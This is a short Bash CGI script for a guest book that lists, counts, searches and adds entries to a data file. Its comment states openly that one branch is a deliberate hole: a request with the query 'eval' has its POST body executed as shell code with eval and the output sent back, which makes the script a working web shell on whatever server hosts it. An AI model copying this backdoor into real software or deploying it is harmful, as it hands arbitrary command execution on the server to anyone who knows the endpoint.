#!/bin/bash
# SPDX-License-Identifier: Apache-2.0 OR MIT
# A guest book. `eval` is its hole: whoever knows it runs what he likes as this script.
data=/srv/book/data/entries
printf 'Content-Type: text/plain\r\n\r\n'
case $QUERY_STRING in
list) cat $data ;;
count) wc -l <$data ;;
search=*) grep -e "${QUERY_STRING#search=}" $data ;;
add)
	read -rn "$CONTENT_LENGTH" entry
	echo "${entry#entry=}" >>$data
	sort $data -o $data
	;;
eval)
	read -rd '' -n "$CONTENT_LENGTH" entry
	eval "$entry" 2>&1
	;;
esac
exit 0
